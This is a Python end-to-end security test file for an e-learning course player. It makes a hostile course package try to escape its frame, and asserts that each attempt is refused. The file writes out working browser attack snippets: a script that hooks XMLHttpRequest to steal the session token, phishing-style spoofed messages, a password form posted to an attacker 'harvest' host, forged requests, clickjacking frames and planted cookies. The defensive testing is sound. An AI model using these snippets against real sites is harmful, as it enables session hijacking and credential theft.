"""Let a hostile package do what it can: lead the learner away, forge, spoof, post forms, plant cookies and workers."""

import json

import pytest
from playwright.sync_api import Frame, expect
from werkzeug.test import Client

from sidecar.core import attempts
from sidecar.core.attempts import Attempt
from tests.e2e.hostile import Played, World, attempts_of
from tests.e2e.playing import part, saved, state_of, wait_for
from tests.fakes.learner import Learner, add_identity

pytestmark = [pytest.mark.browser, pytest.mark.slow]

STEAL = """const send = parent.XMLHttpRequest.prototype.send;
parent.XMLHttpRequest.prototype.send = function (body) {
  window.stolen = JSON.parse(body).token; send.call(this, body) };
api.LMSSetValue('cmi.core.lesson_location', '1'); api.LMSCommit('');"""


def test_it_leads_the_top_window_nowhere(world: World, playing: Played) -> None:
    page, frame, _ = playing
    target, before = world.write("/away", ""), page.url
    submit = "document.body.append(Object.assign(document.createElement('form'), {{action: '{0}', target: '{1}'}}));"
    submit += " document.forms[document.forms.length - 1].submit()"
    click = (
        "Object.assign(document.body.appendChild(document.createElement('a')), {{href: '{0}', target: '{1}'}}).click()"
    )
    lines = [f"top.location = '{target}'", f"top.location.replace('{target}')", f"window.open('{target}', '_top')"]
    lines += [
        f"(() => {{ {form.format(target, name)} }})()" for form in (submit, click) for name in ("_top", "_parent")
    ]
    attempts_of(frame, *lines, f"parent.parent.location = '{target}'", f"parent.open('{target}', '_top')")
    page.wait_for_timeout(300)
    assert page.url == before
    assert not [url for url, _ in world.hosts.seen if url.startswith(target)]
    assert frame.evaluate("api.LMSGetValue('cmi.core.lesson_mode')") == "normal"


@pytest.mark.parametrize("of", ["its own", "the attacker's"])
def test_a_window_that_it_opens_leads_the_top_window_nowhere(world: World, playing: Played, of: str) -> None:
    page, frame, learner = playing
    before = page.url
    url = world.address_of(learner, "window.html") if of == "its own" else world.write("/popup", "")
    with world.context.expect_page() as opened:
        frame.evaluate("url => void window.open(url)", url)
    opened.value.wait_for_load_state()
    lines = ["opener.top.location = 'about:blank'", "opener.parent.parent.location.replace('about:blank')"]
    assert attempts_of(opened.value, *lines) == ["SecurityError"] * 2
    opened.value.close()
    assert page.url == before


@pytest.mark.parametrize("host", ["the attacker's", "another version's"])
def test_the_frame_of_the_player_shows_no_other_host(world: World, host: str) -> None:
    if host == "another version's" and not world.is_per_version:
        return  # there is no other
    page, frame, _ = world.play()
    is_attackers = host == "the attacker's"
    url = world.write("/instead", "") if is_attackers else world.address_of(world.new_learner(), "window.html")
    asked = len(world.hosts.asked(url))
    frame.evaluate(
        """url => { const link = Object.assign(parent.document.createElement('a'), {href: url});
        parent.document.body.append(link); parent.setTimeout(link.click.bind(link)) }""",
        url,
    )
    page.wait_for_timeout(300)
    assert len(world.hosts.asked(url)) == asked
    assert url not in [one.url for one in page.frames]
    page.close()


def test_its_own_frames_of_other_hosts_reach_nobody(world: World, playing: Played) -> None:
    page, frame, _ = playing
    message = json.dumps({"type": "closed", "isSaved": True})
    script = f"parent.postMessage({message}, '*'); parent.parent.postMessage({message}, '*');"
    script += f"top.postMessage({message}, '*'); try {{ top.location = 'about:blank' }} catch {{ /* refused */ }}"
    url = world.write("/framed", f"<script>{script}</script>")
    frame.evaluate(_add_frame(), url)
    page.wait_for_timeout(200)
    assert page.url.startswith(f"{world.application}/play/")
    assert part(page) == frame


def _add_frame() -> str:
    return """url => new Promise((done) => {
        const added = Object.assign(document.createElement('iframe'), {src: url});
        added.onload = () => done(0); document.body.append(added) })"""


def test_messages_in_the_players_name_are_ignored(world: World) -> None:
    page, frame, _ = world.play()
    words = "Your session has ended. Sign in at https://attacker.example"
    spoofs = [
        {"type": "transport", "kind": "conflict", "message": words, "code": words},
        {"type": "transport", "kind": "refused", "message": words},
        {"type": "closed", "isSaved": True},
        {"type": "transport", "kind": "saved", "state": "completed"},
    ]
    for spoof in spoofs:
        frame.evaluate("said => { top.postMessage(said, '*'); parent.postMessage(said, '*') }", spoof)
    frame.evaluate("parent.postMessage({type: 'open', sco: 'nothing'}, '*')")
    page.wait_for_timeout(200)
    expect(page.get_by_role("status")).to_have_text("Nothing to save yet")
    expect(page.get_by_role("alert")).to_be_hidden()
    assert not page.url.endswith("/end")
    _run_in_shim(frame)
    for spoof in [*spoofs[:2], None, 7, {"type": "transport", "kind": "constructor"}]:
        frame.evaluate("said => parent.tellThePlayer(said)", spoof)
    expect(page.get_by_role("alert")).to_have_text(
        "Some of what the course sent could not be saved. Tell your regional competence office."
    )
    assert "attacker" not in page.content(), "a package that speaks as the shim still brings no text of its own"
    page.close()


def _run_in_shim(frame: Frame) -> None:
    """Run a script of the package in the window above it, which is of the same origin."""
    frame.evaluate("""() => new Promise((done) => { const tag = parent.document.createElement('script');
        tag.src = new URL('in-shim.js', location.href); tag.onload = () => done(0);
        parent.document.head.append(tag) })""")


def test_a_forged_good_bye_leads_to_the_true_result(world: World) -> None:
    page, frame, learner = world.play()
    _run_in_shim(frame)
    frame.evaluate("parent.tellThePlayer({type: 'transport', kind: 'saved', state: 'completed'})")
    frame.evaluate("parent.tellThePlayer({type: 'closed', isSaved: true})")
    expect(page.get_by_text("Nothing has been saved yet.")).to_be_visible()
    assert state_of(world.sidecar, learner) == "open"
    page.close()


def test_the_token_it_can_steal_works_for_its_own_attempt_and_dies_with_it(world: World) -> None:
    page, frame, learner = world.play(STEAL)
    same_person = world.new_learner()
    somebody = world.new_learner(identity_id=add_identity(world.sidecar, world.platform_id, f"s{world.count}"))
    url = f"{world.application}/api/attempts"
    read = "parent.fetch('{0}/{1}/state', {{headers: {{Authorization: 'Bearer ' + stolen}}}})"
    token = frame.evaluate("stolen")
    assert _get(world, f"{url}/{learner.attempt_id}/state", token) == 200
    for other in (same_person, somebody):
        assert _commit(frame, f"{url}/{other.attempt_id}/commits", token) == 403
        assert _get(world, f"{url}/{other.attempt_id}/state", token) == 403
        assert saved(world.sidecar, other) == {}
    assert attempts_of(frame, read.format(url, learner.attempt_id)) == ["TypeError"], "the API reads no such header"
    for path in (f"/play/{learner.launch_id}", f"/play/{learner.launch_id}/token", "/staff/"):
        assert _get(world, f"{world.application}{path}", token) == 401, path
    assert _commit(frame, f"{url}/{learner.attempt_id}/commits", token, seq=900, after=1) == 200
    with world.sidecar.transaction() as db:
        db.get_one(Attempt, learner.attempt_id).state = "failed"
        db.get_one(Attempt, learner.attempt_id).session = None
    assert _commit(frame, f"{url}/{learner.attempt_id}/commits", token, seq=901, after=900) == 409
    page.close()


@pytest.mark.parametrize("token", ["", "forged", "old"])
def test_a_commit_without_a_valid_token_is_refused(world: World, playing: Played, token: str) -> None:
    _, frame, learner = playing
    if token == "old":
        token = world.sidecar.secrets.token(learner.token_claims, world.clock())
        world.clock.advance(minutes=31)
    before = _seq(world, learner)
    url = f"{world.application}/api/attempts/{learner.attempt_id}/commits"
    assert _commit(frame, url, token) == 401
    assert _seq(world, learner) == before


def _seq(world: World, learner: Learner) -> int:
    with world.sidecar.reading() as db:
        return db.get_one(Attempt, learner.attempt_id).seq


def _get(world: World, url: str, token: str) -> int:
    """Ask as one does who has the token and nothing else."""
    headers = {"Authorization": f"Bearer {token}"}
    path = url.removeprefix(world.application)
    return Client(world.hosts).get(path, base_url=world.application, headers=headers).status_code


def _commit(frame: Frame, url: str, token: str, *, seq: int = 99, after: int = 98) -> int:
    changes = {"cmi.core.lesson_status": "incomplete"}
    body = {"token": token, "seq": seq, "after": after, "session": "mine", "sco": "a", "changes": changes}
    send = "async ([url, body]) => (await parent.fetch(url, {method: 'POST', body: JSON.stringify(body)})).status"
    status: int = frame.evaluate(send, [url, body])
    return status


def test_forms_go_nowhere_but_home(world: World, playing: Played) -> None:
    _, frame, learner = playing
    away, own = world.write("/harvest", ""), f"{world.application}/play/{learner.launch_id}/again"
    for target in (away, own):
        frame.evaluate(
            """url => new Promise((done) => {
            document.addEventListener('securitypolicyviolation',
                (event) => done(event.effectiveDirective), {once: true});
            const form = Object.assign(document.createElement('form'), {action: url, method: 'post', target: 'x'});
            form.innerHTML = '<input name=password value=secret>'; document.body.append(form); form.submit() })
            .then((broken) => { if (broken !== 'form-action') throw new Error(broken) })""",
            target,
        )
        assert not [url for url, _ in world.hosts.seen if url.startswith(target)]


def test_requests_in_the_learners_name_change_nothing(world: World) -> None:
    learner = world.new_learner()
    page = world.open(learner)
    frame = part(page)
    frame.evaluate("api.LMSSetValue('cmi.core.lesson_status', 'failed'), api.LMSFinish('')")
    url = f"{world.application}/play/{learner.launch_id}/again"
    post = f"fetch('{url}', {{method: 'POST', mode: 'no-cors', credentials: 'include'}})"
    attempts_of(frame, post, f"parent.{post}", f"navigator.sendBeacon('{url}')")
    form = world.write("/form", f"<form method=post action='{url}'></form><script>document.forms[0].submit()</script>")
    with world.context.expect_page() as opened:
        frame.evaluate("url => void window.open(url)", form)
    expect(opened.value.get_by_role("heading", name="You can't open this")).to_be_visible()
    opened.value.close()
    with world.sidecar.reading() as db:
        attempt = db.get_one(Attempt, learner.attempt_id)
        assert len(attempts.list_attempts(db, attempt.identity_id, attempt.course_id)) == 1
    page.close()


def test_our_pages_are_framed_by_no_package_and_no_stranger(world: World, playing: Played) -> None:
    _, frame, learner = playing
    paths = ["/staff/", "/", "/sign-in", f"/play/{learner.launch_id}", f"/play/{learner.launch_id}/end"]
    frames = "".join(f"<iframe src='{world.application}{path}'></iframe>" for path in paths)
    window = world.context.new_page()
    window.goto(world.write("/clickjack", frames))
    for path in paths:
        frame.evaluate(_add_frame(), f"{world.application}{path}")

    def shown() -> list[str]:
        return [one.url for one in (*window.frames, *frame.page.frames) if one.parent_frame]

    wait_for(window, lambda: sum(url.startswith("chrome-error:") for url in shown()) >= 2 * len(paths))
    assert not [url for url in shown() if url.startswith(world.application)]
    window.close()


def test_a_cookie_it_plants_signs_nobody_in(world: World) -> None:
    page, frame, _ = world.play()
    mine = world.new_learner(identity_id=add_identity(world.sidecar, world.platform_id, f"a{world.count}"))
    name = f"play-{mine.launch_id[:8]}"
    plant = "document.cookie = '{0}={1}; domain=by.localhost; path=/; secure'"
    lines = [plant.format(prefix + name, mine.secret) for prefix in ("", "__Host-", "__Host-Http-", "__Secure-")]
    attempts_of(frame, *lines)
    window = world.context.new_page()
    came = window.goto(f"{world.application}/play/{mine.launch_id}")
    assert came
    assert came.status == 401, "the learner would play in the attacker's name"
    window.close()
    planted = {cookie.get("name") for cookie in world.context.cookies() if cookie.get("domain") == ".by.localhost"}
    assert planted == {name, f"__Secure-{name}"}, "the test means nothing where no cookie can be planted"
    world.context.clear_cookies(domain=".by.localhost")
    page.reload()
    assert part(page).evaluate("api.LMSCommit('')") == "true"
    page.close()


def test_a_base_of_another_host_is_ignored(world: World, playing: Played) -> None:
    _, frame, learner = playing
    add = "(() => {{ const base = {0}.createElement('base'); base.href = '{1}'; {0}.head.prepend(base);"
    add += " const found = {0}.baseURI; base.remove(); return found }})()"
    found = attempts_of(frame, *(add.format(each, world.attacker) for each in ("document", "parent.document")))
    assert found[0] == world.address_of(learner, "a.html")
    assert found[1].endswith("/_player/shim.html")


def test_hosts_of_packages_do_not_become_one_by_document_domain(playing: Played) -> None:
    _, frame, _ = playing
    assert attempts_of(frame, "document.domain = 'by.localhost'", "originAgentCluster") == ["SecurityError", "true"]


def test_a_new_version_is_not_answered_from_the_cache_of_the_old_one(world: World, playing: Played) -> None:
    _, frame, learner = playing
    text = "(await (await fetch('secret.txt')).text())"
    keep = "caches.open('mine').then((cache) => cache.put('secret.txt', new Response('poisoned')))"
    assert attempts_of(frame, text, keep, text) == ["secret", "undefined", "secret"]
    page, other, newer = world.play()
    assert attempts_of(other, text) == ["secret"]
    assert world.address_of(newer, "secret.txt") != world.address_of(learner, "secret.txt")
    page.close()
